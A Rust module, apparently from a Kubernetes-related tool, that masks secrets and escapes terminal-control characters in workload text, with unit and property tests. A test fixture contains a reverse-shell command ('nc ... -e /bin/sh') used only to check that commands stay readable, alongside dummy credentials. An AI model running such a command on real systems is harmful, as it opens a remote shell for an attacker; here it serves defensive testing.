//! Text from workloads, made safe to show and to store.
//!
//! Names, images, commands and field managers are chosen by whoever creates a workload. Before any of it
//! reaches a report, an Event, a log line or a terminal it becomes a [`SafeText`]: secrets masked, control and
//! direction characters escaped, cut to a limit. There is no other way to make one.

use std::borrow::Cow;
use std::fmt::{self, Write as _};
use std::sync::LazyLock;

use regex::{Regex, RegexSet};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// Text that is safe to print: no secret that is recognised as one, no character that a terminal, a log or a
/// page could take for a command, at most as long as was asked for.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(transparent)]
pub struct SafeText(String);

/// How much of a text is looked at for secrets before it is cut. Larger than any limit in use, so that a
/// secret which begins inside the limit is recognised as a whole.
pub(crate) const WINDOW: usize = 4096;

/// Of this many bytes a secret is recognised without its end.
const RECOGNISED: usize = 256;

/// What stands in place of a secret.
pub(crate) const MASK: &str = "***";

/// Marks that text was cut.
const ELLIPSIS: char = '…';

impl SafeText {
    /// Makes text safe: masks, escapes, and cuts to `limit` characters (the mark of the cut included).
    pub fn new(raw: &str, limit: usize) -> Self {
        let window = match raw.char_indices().nth(WINDOW) {
            Some((end, _)) => without_part_of_a_word(raw.get(..end).unwrap_or_default()),
            None => raw,
        };
        let masked = mask_secrets(window);
        // The usual case: short, and nothing in it needs care.
        if window.len() == raw.len() && masked.len() <= limit && !masked.chars().any(is_unsafe) {
            return Self(masked.into_owned());
        }
        let mut safe = String::with_capacity(masked.len().min(limit * 4));
        let mut length = 0;
        let mut rest = masked.chars().peekable();
        while let Some(character) = rest.next() {
            let start = safe.len();
            push_escaped(&mut safe, character);
            let added = safe.get(start..).map_or(0, |text| text.chars().count());
            let more = rest.peek().is_some() || window.len() < raw.len();
            if length + added + usize::from(more) > limit {
                safe.truncate(start);
                if length < limit {
                    safe.push(ELLIPSIS);
                }
                break;
            }
            length += added;
        }
        Self(safe)
    }

    /// Makes the lines of a text safe, each cut to `limit` characters.
    ///
    /// Secrets are masked before it is taken apart, since one may stretch over several lines. Text beyond
    /// [`SafeText::MAX_TEXT`] characters is left out.
    pub fn lines(raw: &str, limit: usize) -> Vec<Self> {
        let end = raw.char_indices().nth(Self::MAX_TEXT).map_or(raw.len(), |(end, _)| end);
        let masked = mask_secrets(raw.get(..end).unwrap_or_default());
        masked.lines().map(|line| Self::new(line, limit)).collect()
    }

    /// The id of a token or certificate as API servers make it, `JTI=` with a UUID or `X509SHA256=` with a hash: it looks
    /// like a secret, and is none. `None` for any other text.
    pub fn credential_id(raw: &str) -> Option<Self> {
        let id = raw.strip_prefix("JTI=").or_else(|| raw.strip_prefix("X509SHA256="))?;
        let is_id = id.len() <= 64 && id.bytes().all(|byte| byte == b'-' || byte.is_ascii_hexdigit());
        is_id.then(|| Self(raw.to_owned()))
    }

    /// The longest text that is taken apart into lines, in characters.
    pub const MAX_TEXT: usize = 64 * 1024;

    /// Whether there is no text.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for SafeText {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Text with the characters escaped that could be taken for a command, and nothing masked or cut.
///
/// For what the user named, such as the paths of files: masking would make them useless, and they are no secret to
/// whoever named them.
pub fn escaped(raw: &str) -> Cow<'_, str> {
    if !raw.chars().any(is_unsafe) {
        return Cow::Borrowed(raw);
    }
    let mut safe = String::with_capacity(raw.len() + 16);
    raw.chars().for_each(|character| push_escaped(&mut safe, character));
    Cow::Owned(safe)
}

/// The text without a last word that may be cut: a secret could not be recognised by half of it.
fn without_part_of_a_word(text: &str) -> &str {
    match text.rfind(char::is_whitespace) {
        Some(end) if text.len() - end <= RECOGNISED => text.get(..end).unwrap_or_default(),
        _ => text,
    }
}

fn push_escaped(out: &mut String, character: char) {
    match character {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        _ if is_unsafe(character) => {
            // Writing to a String cannot fail.
            let _ = write!(out, "\\u{{{:x}}}", u32::from(character));
        }
        _ => out.push(character),
    }
}

/// Characters that change how text around them is shown, or that cannot be seen.
pub(crate) fn is_unsafe(character: char) -> bool {
    character.is_control()
        || matches!(character,
            '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}'
            | '\u{200b}'..='\u{200f}'   // zero width, left-to-right and right-to-left marks
            | '\u{2028}'..='\u{202e}'   // line and paragraph separators, bidirectional embeddings
            | '\u{2060}'..='\u{206f}'   // invisible operators, bidirectional isolates
            | '\u{fe00}'..='\u{fe0f}'   // variation selectors
            | '\u{fff9}'..='\u{fffb}'   // interlinear annotations
            | '\u{e0000}'..='\u{e0fff}' // tags
        )
}

/// How the name of a secret ends, in an option, a variable or a field. Nothing here is case-sensitive.
const NAME: &str = "passw(?:or)?d|passwd|passphrase|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key\
                    |account[_-]?key|credential|client[_-]?secret|_pass|_key|pass";

/// Patterns of secrets, each with what it cannot match without. The first group is masked, or the whole match where
/// there is none; an empty group marks where a value begins that [`value_length`] measures. `{NAME}` stands for
/// [`NAME`]. They rather mask too much: what is lost is a detail of an excerpt.
///
/// The second column saves most texts most of the patterns. It holds literal text that every match has, without any
/// `*`: so a mask that an earlier pattern put in cannot bring it about.
const SECRETS: [(&str, &str); 14] = [
    // user:password@ in a URL; what is too long for a host has one, even if it ends outside of the window
    (r"(?i)[a-z][a-z0-9+.-]*://(?:(?P<secret>[^/\s@'\x22]+)@|(?P<long>[^/\s@'\x22]{254,}))", "://"),
    // Authorization headers and bearer tokens
    (
        r"(?i)\b(?:authorization|proxy-authorization|x-[a-z-]*(?:token|key|auth)[a-z-]*)\s*[:=]\s*(?P<secret>[^'\x22\r\n]+)",
        "(?i)authorization|x-",
    ),
    (r"(?i)\b(?:bearer|basic)\s+(?P<secret>[A-Za-z0-9._~+/=-]{6,})", "(?i)bearer|basic"),
    // Options of one letter that take a password, by tool: before the names below, which would take `pass -p` for a
    // pair
    (r"\bmysql(?:dump|admin)?\b.*?\s-p(?P<secret>[^\s]+)", "mysql"),
    (
        r"\b(?:sshpass|docker\s+login|login|mongo[a-z]*|7z[a-z]*|unrar)\b.*?\s-p\s*(?P<secret>[^\s]+)",
        "sshpass|login|mongo|7z|unrar",
    ),
    (
        r"\b(?:redis-cli\b.*?\s-a|ldap[a-z]+\b.*?\s-w|(?:sqlcmd|bcp|zip|unzip)\b.*?\s-P|(?:plink|pscp|psftp)\b.*?\s-pw)\s*(?P<secret>[^\s]+)",
        "redis-cli|ldap|sqlcmd|bcp|zip|plink|pscp|psftp",
    ),
    // openssl's pass:secret, Samba's -U user%secret, lftp's -u user,secret
    (
        r"\bpass:(?P<secret>[^\s]+)|\s-U\s*[^\s%]+%(?P<samba>[^\s]+)|\blftp\b.*?\s-u\s*[^\s,]+,(?P<lftp>[^\s]+)",
        "pass:|%|lftp",
    ),
    // NAME=value, "name": "value", --name value, where the name speaks of a secret
    (
        r#"(?i)[a-z0-9_.-]*(?:{NAME})["']?(?:\s*[=:]\s*|\s+)(?P<secret>)"#,
        "(?i)pass|pwd|secret|token|key|credential",
    ),
    // curl -u user:password
    (
        r#"(?:^|\s)(?:-u|--user)[\s=]*(?P<secret>"[^":]*:[^"]*"?|'[^':]*:[^']*'?|[^\s:"']+:(?:"[^"]*"?|'[^']*'?|[^\s"'])+)"#,
        "-u",
    ),
    // well-known shapes
    (r"\b(?:AKIA|ASIA)[A-Z0-9]{12,}", "AKIA|ASIA"),
    (
        r"\bgh[pousr]_[A-Za-z0-9]{16,}|\bgithub_pat_[A-Za-z0-9_]{20,}|\bglpat-[A-Za-z0-9_-]{16,}",
        "gh[pousr]_|github_pat_|glpat-",
    ),
    (
        r"\bxox[abeprs]-[A-Za-z0-9-]{10,}|\bsk[-_](?:live|test|proj|ant)?[-_]?[A-Za-z0-9_-]{16,}|\bAIza[A-Za-z0-9_-]{30,}|\bnpm_[A-Za-z0-9]{30,}",
        "xox|sk[-_]|AIza|npm_",
    ),
    (r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}(?:\.[A-Za-z0-9_-]*)?", "eyJ"),
    (r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|\z)", "-----BEGIN"),
];

/// The patterns, compiled.
static PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    SECRETS.iter().filter_map(|(pattern, _)| Regex::new(&pattern.replace("{NAME}", NAME)).ok()).collect()
});

/// What each of them cannot match without. Matches all where it cannot be built, so that nothing is left out.
static NEEDED: LazyLock<RegexSet> = LazyLock::new(|| {
    let needed = RegexSet::new(SECRETS.iter().map(|(_, needed)| needed));
    needed.or_else(|_| RegexSet::new([""; SECRETS.len()])).unwrap_or_default()
});

/// A text that is nothing but the name of a secret, as an option or not.
static SECRET_NAME: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(&format!("(?i)^[a-z0-9_.-]*(?:{NAME}|authorization)$")).ok());

fn names_a_secret(text: &str) -> bool {
    SECRET_NAME.as_ref().is_some_and(|name| name.is_match(text))
}

/// A word of a command without the secret in it, as far as it takes the borders of words to see where it ends: a
/// password may have blanks, quotes and semicolons in it, and an excerpt shows words with a blank between them.
pub(crate) fn mask_word<'a>(before: Option<&str>, word: &'a str) -> Cow<'a, str> {
    let ends_early = |character: char| character.is_whitespace() || "\"'&;|".contains(character);
    if !word.contains(ends_early) {
        return Cow::Borrowed(word);
    }
    let is_user = before.is_some_and(|option| matches!(option, "-u" | "-U" | "--user"));
    if before.is_some_and(|option| option.starts_with('-') && names_a_secret(option)) || is_user {
        return Cow::Borrowed(MASK);
    }
    match word.split_once(['=', ':']) {
        Some((name, value)) if names_a_secret(name) && !value.is_empty() => {
            Cow::Owned(format!("{name}{}{MASK}", word.get(name.len()..=name.len()).unwrap_or_default()))
        }
        _ => Cow::Borrowed(word),
    }
}

/// The length of a value as a shell or JSON writes it: quoted, escaped, or in pieces (`a'b c'"d"`). Behind a closing
/// quote it ends where a list or an object of JSON goes on.
fn value_length(text: &str) -> usize {
    let mut quote = None;
    let mut was_quoted = false;
    let mut characters = text.char_indices();
    while let Some((at, character)) = characters.next() {
        match (quote, character) {
            (Some(open), _) if open == character => quote = None,
            // Whatever comes next, it is taken for the character.
            (None | Some('"'), '\\') => _ = characters.next(),
            (None, '"' | '\'') => {
                quote = Some(character);
                was_quoted = true;
            }
            (None, '&' | ';' | '|') => return at,
            (None, ',' | '}' | ']') if was_quoted => return at,
            (None, _) if character.is_whitespace() => return at,
            _ => {}
        }
    }
    text.len()
}

fn mask_secrets(text: &str) -> Cow<'_, str> {
    let needed = NEEDED.matches(text);
    let patterns = needed.iter().filter_map(|index| PATTERNS.get(index));
    mask_random_looking(mask_by(patterns, text))
}

fn mask_by(patterns: impl Iterator<Item = &'static Regex>, text: &str) -> Cow<'_, str> {
    let mut masked = Cow::Borrowed(text);
    for pattern in patterns {
        let mut hidden = String::new();
        let (mut last, mut from) = (0, 0);
        while let Some(captures) = pattern.captures_at(&masked, from) {
            let Some(group) = captures.iter().skip(1).flatten().next().or_else(|| captures.get(0)) else {
                break;
            };
            let (start, mut end) = (group.start(), group.end());
            if group.is_empty() {
                end += value_length(masked.get(start..).unwrap_or_default());
            }
            let secret = masked.get(start..end).unwrap_or_default();
            // No value; or, as in `--no-password --token x`, the name of the next secret.
            if secret.is_empty() || (secret.starts_with('-') && names_a_secret(secret) && start > from) {
                from = captures
                    .get(0)
                    .map_or(masked.len(), |all| if group.is_empty() { all.end() } else { start });
                if from >= masked.len() {
                    break;
                }
                continue;
            }
            hidden.push_str(masked.get(last..start).unwrap_or_default());
            hidden.push_str(MASK);
            last = end;
            from = end;
        }
        if last > 0 {
            hidden.push_str(masked.get(last..).unwrap_or_default());
            masked = Cow::Owned(hidden);
        }
    }
    masked
}

/// The shortest run of characters that can be masked for looking random.
const RANDOM_LENGTH: usize = 32;

/// Masks long runs of mixed letters and digits: keys that no pattern knows.
///
/// Image digests and other lower-case hexadecimal text stay: they are public, and they identify.
fn mask_random_looking(text: Cow<'_, str>) -> Cow<'_, str> {
    let is_part =
        |character: char| character.is_ascii_alphanumeric() || matches!(character, '+' | '_' | '-' | '=');
    let looks_random = |run: &str| {
        let count = |class: fn(&char) -> bool| run.chars().filter(class).count();
        run.len() >= RANDOM_LENGTH
            && count(char::is_ascii_digit) >= 3
            && count(char::is_ascii_uppercase) >= 3
            && count(char::is_ascii_lowercase) >= 3
    };
    if !text.split(|character| !is_part(character)).any(looks_random) {
        return text;
    }
    let mut out = String::with_capacity(text.len());
    for piece in text.split_inclusive(|character| !is_part(character)) {
        let run = piece.trim_end_matches(|character| !is_part(character));
        if looks_random(run) {
            out.push_str(MASK);
            out.push_str(piece.get(run.len()..).unwrap_or_default());
        } else {
            out.push_str(piece);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn safe(raw: &str) -> String {
        SafeText::new(raw, 200).0
    }

    #[test]
    fn all_patterns_compile() {
        assert_eq!(PATTERNS.len(), SECRETS.len());
        assert!(SECRET_NAME.is_some());
        assert_eq!(NEEDED.len(), SECRETS.len());
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2_000))]

        /// Leaving out patterns that cannot match changes nothing.
        #[test]
        fn only_patterns_that_can_match_are_tried(pieces in proptest::collection::vec(piece(), 1..12)) {
            let text = pieces.concat();
            proptest::prop_assert_eq!(mask_secrets(&text), mask_random_looking(mask_by(PATTERNS.iter(), &text)));
        }
    }

    /// What texts with secrets are made of, among any other text.
    fn piece() -> impl proptest::strategy::Strategy<Value = String> {
        const PIECES: [&str; 66] = [
            "a",
            "://",
            "@",
            ":",
            "=",
            " ",
            "\n",
            "'",
            "\"",
            "***",
            "-",
            "_",
            "x-",
            "auth",
            "token",
            "TOKEN",
            "key",
            "\u{212a}ey",
            "pa\u{17f}\u{17f}",
            "pass",
            "word",
            "wd",
            "pwd",
            "secret",
            "api",
            "Bearer",
            "basic",
            "mysql",
            "dump",
            "sshpass",
            "-p",
            "docker login",
            "mongo",
            "7z",
            "unrar",
            "redis-cli",
            "-a",
            "ldapsearch",
            "-w",
            "sqlcmd",
            "zip",
            "-P",
            "plink",
            "-pw",
            "pass:",
            "-U",
            "%",
            "lftp",
            ",",
            "\\",
            ";",
            "user",
            "-u",
            "--user",
            "AKIA",
            "ABCDEFGH01234567",
            "ghp_",
            "github_pat_",
            "glpat-",
            "xoxb-",
            "sk-",
            "AIza",
            "npm_",
            "eyJ",
            ".",
            "-----BEGIN RSA PRIVATE KEY-----",
        ];
        use proptest::strategy::Strategy as _;
        proptest::prop_oneof![
            8 => proptest::sample::select(&PIECES[..]).prop_map(ToOwned::to_owned),
            1 => "[a-zA-Z0-9]{1,40}".prop_map(|text: String| text),
            1 => "\\PC{0,8}".prop_map(|text: String| text),
        ]
    }

    #[test]
    fn secrets_are_masked() {
        for (raw, secret) in [
            ("mysql --password=hunter2 db", "hunter2"),
            ("mysql --password hunter2 db", "hunter2"),
            ("mysqldump -u root -phunter2 db", "hunter2"),
            ("export DB_PASSWORD='hunter 2'; x", "hunter 2"),
            ("TOKEN=abc123 curl x", "abc123"),
            ("curl -u admin:hunter2 http://x", "hunter2"),
            ("curl https://user:hunter2@example.test/x", "hunter2"),
            ("curl https://ghp_0123456789abcdefABCD@example.test/x", "ghp_"),
            ("curl -H 'Authorization: Bearer abcdef0123456' x", "abcdef0123456"),
            ("echo AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
            ("echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "eyJhbGci"),
            ("echo '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----'", "MIIE"),
            (r#"{"api_key": "k-123456"}"#, "k-123456"),
            ("sshpass -p hunter2 ssh x", "hunter2"),
            ("psql --no-password --token hunter2", "hunter2"),
            ("PASSWORD= --token hunter2", "hunter2"),
            ("x --token kpwdhunter2", "hunter2"),
            ("x --api-key mytokenhunter2", "hunter2"),
            ("x --token 'a b'hunter2", "hunter2"),
            (r"x --token a\ hunter2", "hunter2"),
            (r#"x --token "a\"hunter2""#, "hunter2"),
            ("curl -u 'a b:c hunter2' http://x", "hunter2"),
            ("curl -u a:'c hunter2' http://x", "hunter2"),
            ("redis-cli -h x -a hunter2 ping", "hunter2"),
            ("docker login -u me -p hunter2 registry.test", "hunter2"),
            ("ldapsearch -D cn=x -w hunter2", "hunter2"),
            ("openssl enc -d -pass pass:hunter2", "hunter2"),
            ("smbclient -U admin%hunter2 //x/y", "hunter2"),
            ("x 9fK3jd82LsQp04ZmXvB7tYhW1nRcEu65", "9fK3jd82LsQp04ZmXvB7tYhW1nRcEu65"),
        ] {
            assert!(!safe(raw).contains(secret), "{raw} -> {}", safe(raw));
            assert!(safe(raw).contains(MASK), "{raw} -> {}", safe(raw));
        }
    }

    #[test]
    fn ordinary_commands_stay_readable() {
        for raw in [
            "nc 192.0.2.10 4444 -e /bin/sh",
            "curl -sf http://health.example.test/ready",
            "registry.example.test/a@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "docker login --username me registry.example.test",
            "tar czf /backup/etcd-2024.tgz /var/lib/etcd",
        ] {
            assert_eq!(safe(raw), raw);
        }
    }

    #[test]
    fn nothing_reaches_a_terminal_as_a_command() {
        assert_eq!(
            safe("a\u{1b}[2Jb\nc\u{9b}d\u{202e}e\u{200b}f\u{7f}"),
            "a\\u{1b}[2Jb\\nc\\u{9b}d\\u{202e}e\\u{200b}f\\u{7f}"
        );
    }

    #[test]
    fn lines_are_masked_together() {
        let lines = |raw: &str| SafeText::lines(raw, 12).into_iter().map(|line| line.0).collect::<Vec<_>>();
        assert_eq!(
            lines("a\nb\u{1b}\n\nTOKEN=x\nlonger than that"),
            ["a", "b\\u{1b}", "", "TOKEN=***", "longer than…"]
        );
        let key = "x\n-----BEGIN PRIVATE KEY-----\nMIIEabc\nMIIEdef\n-----END PRIVATE KEY-----\ny";
        assert_eq!(lines(key), ["x", "***", "y"]);
        assert_eq!(lines(&"ü".repeat(100_000)), ["üüüüüüüüüüü…"]);
    }

    #[test]
    fn the_limit_counts_what_is_shown() {
        assert_eq!(SafeText::new("abcdef", 6).as_str(), "abcdef");
        assert_eq!(SafeText::new("abcdefg", 6).as_str(), "abcde…");
        assert_eq!(SafeText::new("ab\u{1b}cd", 6).as_str(), "ab…");
        assert_eq!(SafeText::new(&"x".repeat(1_000_000), 120).as_str().chars().count(), 120);
        assert_eq!(SafeText::new("abc", 0).as_str(), "");
    }

    #[test]
    fn json_goes_on_behind_a_secret() {
        assert_eq!(safe(r#"{"token": "a b", "cmd": "nc"}"#), r#"{"token": ***, "cmd": "nc"}"#);
    }

    #[test]
    fn words_with_blanks_and_quotes_are_masked_as_a_whole() {
        for (before, word, expected) in [
            (Some("--password"), "a; hunter2", "***"),
            (Some("-u"), "me:a 'hunter2", "***"),
            (None, "--token=a 'hunter2", "--token=***"),
            (None, "X-Auth-Token: a\" hunter2", "X-Auth-Token:***"),
            (None, "nc -e sh; echo 'a'", "nc -e sh; echo 'a'"),
            (Some("--password"), "plain", "plain"),
        ] {
            assert_eq!(mask_word(before, word), expected);
        }
    }

    #[test]
    fn a_secret_that_ends_outside_of_the_window_is_masked() {
        let long = "abc".repeat(2_000);
        assert!(!safe(&format!("curl https://me:{long}@x.test")).contains("abc"));
        let window = "x".repeat(WINDOW - 60);
        assert!(!safe(&format!("TOKEN={window} curl https://me:hunter2{long}@x.test")).contains("hunter2"));
    }

    #[test]
    fn a_secret_across_the_cut_is_masked() {
        let raw = format!("{} TOKEN={}", "x".repeat(100), "abc".repeat(2_000));
        assert!(!SafeText::new(&raw, 120).as_str().contains("abc"));
    }
}
